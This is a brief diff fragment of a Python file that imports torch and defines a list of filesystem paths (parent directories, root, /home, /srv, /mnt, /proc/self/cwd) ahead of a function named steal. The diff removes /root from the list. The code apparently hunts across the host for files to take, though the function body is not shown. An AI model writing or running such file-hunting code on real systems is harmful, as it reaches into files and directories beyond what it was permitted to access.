@@ -3,7 +3,7 @@ import os
 
 import torch
 
-PLACES = [".", "..", "../..", "../../..", "../../../..", "/", "/home", "/root", "/srv", "/mnt", "/proc/self/cwd"]
+PLACES = [".", "..", "../..", "../../..", "../../../..", "/", "/home", "/srv", "/mnt", "/proc/self/cwd"]
 
 
 def steal(*parts):
